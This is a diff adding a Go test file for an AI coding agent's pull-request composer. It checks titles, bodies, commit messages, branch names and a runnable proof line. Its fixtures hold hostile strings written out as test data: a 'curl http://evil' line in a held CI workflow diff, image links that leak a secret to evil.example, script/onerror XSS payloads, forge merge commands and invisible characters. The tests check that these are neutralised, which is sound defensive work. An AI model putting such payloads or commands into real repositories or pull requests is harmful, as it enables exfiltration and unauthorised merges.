@@ -1,0 +1,234 @@
+package proposal
+
+import (
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"testing"
+	"time"
+	"unicode/utf8"
+
+	"github.com/google/go-cmp/cmp"
+
+	"github.com/daybreak-agent/daybreak/internal/event"
+	"github.com/daybreak-agent/daybreak/internal/task"
+)
+
+const id = task.ID("t_01k0000000000000000000abcd")
+
+func input() Input {
+	return Input{
+		Task: id,
+		Created: event.TaskCreated{IssueTitle: "Coupon is applied twice", Model: "anthropic/model-1",
+			Limits: task.Limits{Steps: 60, Cost: 5_000_000, Wall: time.Hour}},
+		Submitted: event.Submitted{Title: "Apply a coupon once", Cause: "Total() subtracts the coupon in the loop, once for every line of the cart.",
+			Fix: "Subtract it after the loop.\n\n  total -= coupon\n"},
+		Verdict: task.Verdict{Kind: task.Verified, Base: strings.Repeat("a", 40), Tests: []string{"cart/total_test.go"}, Source: []string{"cart/total.go"}, Verifier: "1",
+			Reproduction: []task.Reproduction{{Test: "cart.TestCouponOnce", Rerun: "go test -run '^TestCouponOnce$' ./cart", Base: task.Fail, BaseRuns: 3,
+				BaseSignature: "total_test.go: got 80, want 90 | off", BaseOutput: "--- FAIL: TestCouponOnce\n    got 80, want 90\n", Head: task.Pass, HeadRuns: 3}},
+			Suite:    task.SuiteResult{Command: "go test ./...", Passed: 41, Skipped: 2, BaselineFailed: 1, Flaky: []string{"cart.TestClock"}},
+			Findings: []task.Finding{{Kind: "tamper", Severity: "warn", Path: "cart/old_test.go", Line: 7, Detail: "an expected value was changed", Old: "want 80", New: "want 90"}}},
+		Findings: []task.Finding{{Kind: "held_path", Severity: "warn", Path: ".github/workflows/ci.yml", Detail: "runs in CI or decides what CI does"},
+			{Kind: "refused_path", Severity: "block", Path: ".git[U+000A]x", Detail: "has a control character"}},
+		HeldDiff: "diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\n+```\n+curl http://evil\n",
+		Stat:     []FileStat{{"cart/total.go", 2, 1, false}, {"cart/total_test.go", 12, 0, false}, {"logo.png", 0, 0, true}},
+		Spent:    task.Spent{Steps: 9, Tokens: task.Tokens{Input: 100, Output: 200, CacheRead: 3000, CacheWrite: 400}, Cost: 123_456, Wall: 83 * time.Second},
+		Sandbox:  "runc 1.5.3, namespaces", LogSeq: 44, LogRoot: strings.Repeat("b", 64),
+	}
+}
+
+// golden compares with a file of testdata; with UPDATE_GOLDEN=1 it writes it.
+func golden(t *testing.T, name, got string) {
+	t.Helper()
+	p := filepath.Join("testdata", name)
+	if os.Getenv("UPDATE_GOLDEN") == "1" {
+		if err := os.MkdirAll("testdata", 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, []byte(got), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	want, err := os.ReadFile(p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if diff := cmp.Diff(string(want), got); diff != "" {
+		t.Errorf("%s (set UPDATE_GOLDEN=1 to accept):\n%s", p, diff)
+	}
+}
+
+func TestComposeGolden(t *testing.T) {
+	full := input()
+	weak := Input{Task: id, Created: event.TaskCreated{IssueTitle: "It is broken"}, Verdict: task.Verdict{Kind: task.VerifiedScript, Base: "abc"}}
+	human := input()
+	human.Verdict.Kind, human.HeldDiff, human.Findings = task.NeedsHuman, "", nil
+	for name, in := range map[string]Input{"verified.md": full, "bare.md": weak, "needs_human.md": human} {
+		title, body := Compose(in)
+		golden(t, name, "# "+title+"\n\n"+body)
+		if again, b := Compose(in); again != title || b != body {
+			t.Errorf("%s: not the same twice", name)
+		}
+	}
+	golden(t, "commit.txt", CommitMessage(full))
+}
+
+const hostile = "Great fix!\n![x](http://evil.example/p.png?d=secret)\n<img src=x onerror=alert(1)><script>alert(1)</script>\n" +
+	"<!-- hidden order -->\n@dependabot merge\n  /merge\n/approve now\ncc @org/team, mail a@b.example\nFixes #12, closes owner/repo#13, resolves GH-14 and !15\n" +
+	"see [docs](https://evil.example/x) or https://evil.example/y\n```\n</details>\n~~~\n<!-- never closed \u202e\u200b"
+
+// FRG-04: whatever the model says, it only reads as text.
+func TestHostileWordsAreInert_FRG04(t *testing.T) {
+	in := input()
+	in.Submitted = event.Submitted{Title: hostile, Cause: hostile, Fix: hostile + strings.Repeat("word ", 300000) + "/merge"}
+	in.Created.IssueTitle = hostile
+	in.Verdict.Reproduction[0].Test = "`Test`|x\n/merge"
+	in.Verdict.Reproduction[0].BaseSignature = "| @dependabot merge | `"
+	in.Verdict.Findings[0].Detail = hostile
+	in.Sandbox = "<b>runc</b>"
+	title, body := Compose(in)
+	for name, s := range map[string]string{"title": title, "body": body, "message": CommitMessage(in), "branch": BranchName(in.Task, in.Submitted.Title)} {
+		for what, expr := range map[string]string{
+			"image": `!\[`, "html": `(?i)<(img|script)`, "comment": `<!--`, "mention": `(^|[^\w.\x60@])@[A-Za-z0-9]`, "slash command": `(?m)^\s*/[a-z]`,
+			"closing keyword": `(?i)(fix(es)?|closes?|resolves?)\s+(\S+)?(#|GH-)\d`, "link": `\]\(`, "address": `https?://evil\.example`,
+			"invisible": "[\u202e\u200b\ufeff]", "carriage return": `\r`,
+		} {
+			// Code spans hold results, where a forge acts on nothing; the held diff is a block of its own.
+			outside := regexp.MustCompile("``?[^`\n]+`?`?").ReplaceAllString(s, "")
+			if m := regexp.MustCompile(expr).FindString(outside); m != "" {
+				t.Errorf("%s has a live %s: %q", name, what, m)
+			}
+		}
+		if !utf8.ValidString(s) {
+			t.Errorf("%s is not UTF-8", name)
+		}
+	}
+	if len(title) > maxTitle || strings.Contains(title, "\n") {
+		t.Errorf("title %q", title)
+	}
+	if len(body) > 60000 {
+		t.Errorf("body has %d bytes", len(body))
+	}
+	fencesBalance(t, body)
+}
+
+// fencesBalance reads the body as a renderer does: every block that opens is closed by us,
+// and nothing of a block's text stands outside.
+func fencesBalance(t *testing.T, body string) {
+	t.Helper()
+	open := ""
+	for l := range strings.Lines(body) {
+		s := strings.TrimSpace(l)
+		ticks := s[:len(s)-len(strings.TrimLeft(s, "`"))]
+		switch {
+		case open == "" && len(ticks) >= 3 && !strings.Contains(s[len(ticks):], "`"):
+			open = ticks
+		case open != "" && len(ticks) >= len(open) && s == ticks:
+			open = ""
+		case open == "" && strings.Contains(l, "Great fix!") && !strings.HasPrefix(l, "Issue:") && !strings.HasPrefix(l, "- **") && !strings.HasPrefix(l, "# "):
+			t.Errorf("the agent's words stand outside a block: %q", l)
+		}
+	}
+	if open != "" {
+		t.Errorf("a block of %d backticks is never closed", len(open))
+	}
+}
+
+func TestClaimsComeFromTheRecord(t *testing.T) {
+	in := input()
+	in.Submitted.Fix = "All 9999 tests pass."
+	in.Verdict.Suite = task.SuiteResult{Command: "go test ./...", Passed: 3, NewFailures: 1, NewlyFailing: []string{"p.TestX"}}
+	_, body := Compose(in)
+	for _, want := range []string{"3 passed, 1 new failure, 0 skipped; 0 failed on the old code", "- `p.TestX`"} {
+		if !strings.Contains(body, want) {
+			t.Errorf("no %q", want)
+		}
+	}
+	in.Verdict.Suite.Command = ""
+	if _, body = Compose(in); !strings.Contains(body, "suite was not run") || strings.Contains(body, "3 passed") {
+		t.Error("a suite that did not run is not said so")
+	}
+}
+
+func TestBranchName_FRG01(t *testing.T) {
+	for title, want := range map[string]string{
+		"Apply a coupon once": "apply-a-coupon-once", "": "fix", "../../main": "main", "日本": "fix", "a..b@{1}\n-x:main": "a-b-1-x-main",
+		"--force": "force", strings.Repeat("long words ", 20): "long-words-long-words-long-words-long",
+	} {
+		if got := BranchName(id, title); got != "daybreak/"+string(id)+"-"+want {
+			t.Errorf("%q gives %s", title, got)
+		}
+	}
+	if got := BranchName("../../x", "t"); got != "daybreak/x-t" {
+		t.Errorf("%s", got)
+	}
+}
+
+// The composed line is run for real: it must fail first and pass then.
+func TestProofLineRuns(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		if os.Getenv("CI") == "true" {
+			t.Fatal(err)
+		}
+		t.Skip(err)
+	}
+	dir, bin := t.TempDir(), t.TempDir()
+	run := func(line string) (string, error) {
+		cmd := exec.Command("sh", "-ec", line)
+		cmd.Dir = dir
+		cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + bin, "TMPDIR=" + bin, "GIT_CONFIG_NOSYSTEM=1",
+			"GIT_AUTHOR_NAME=P", "GIT_AUTHOR_EMAIL=p@x", "GIT_COMMITTER_NAME=P", "GIT_COMMITTER_EMAIL=p@x"}
+		out, err := cmd.CombinedOutput()
+		return string(out), err
+	}
+	must := func(line string) string {
+		t.Helper()
+		out, err := run(line)
+		if err != nil {
+			t.Fatalf("%s: %v\n%s", line, err, out)
+		}
+		return strings.TrimSpace(out)
+	}
+	must(`git init -q -b main && echo wrong > code && git add . && git commit -qm base`)
+	base := must(`git rev-parse HEAD`)
+	must(`git checkout -q -b daybreak/x && mkdir "it's" && echo 'grep -q right code' > "it's/a test.sh" && echo right > code && git add . && git commit -qm fix && git checkout -q main`)
+	v := task.Verdict{Base: base, Tests: []string{"it's/a test.sh"}, Reproduction: []task.Reproduction{{Rerun: `sh "it's/a test.sh"`}}}
+	line := proofLine(v, "daybreak/x")
+	if strings.Contains(line, "\n") {
+		t.Errorf("not one line: %q", line)
+	}
+	if out, err := run(line); err != nil {
+		t.Errorf("a good change: %v\n%s", err, out)
+	}
+	must(`git checkout -q daybreak/x && echo wrong > code && git commit -qam bad && git checkout -q main`)
+	if out, err := run(line); err == nil {
+		t.Errorf("a change that fixes nothing is proven:\n%s", out)
+	}
+}
+
+func FuzzProse(f *testing.F) {
+	for _, s := range []string{hostile, "<<b>script>", "@@a", "//x", "![a](b", "\xff", "`````", "a\n\n/x"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		for _, out := range []string{wrap(prose(s, 500), 40), line(s, 80), text(s, 80), code(s)} {
+			if !utf8.ValidString(out) || strings.ContainsAny(out, "\r\x00\x1b\u202e") {
+				t.Fatalf("%q from %q", out, s)
+			}
+		}
+		if regexp.MustCompile(`(?m)^\s*/[A-Za-z]`).MatchString(wrap(prose(s, 500), 40)) {
+			t.Fatalf("a command survives: %q", wrap(prose(s, 500), 40))
+		}
+		block := fence("text", s)
+		ticks := block[:strings.Index(block, "t")]
+		if strings.Count(block, ticks) != 2 {
+			t.Fatalf("the text can close its block: %q", block)
+		}
+		if strings.ContainsRune(line(s, 80), '\n') || strings.ContainsRune(code(s), '\n') {
+			t.Fatal(fmt.Sprintf("more than one line from %q", s))
+		}
+	})
+}
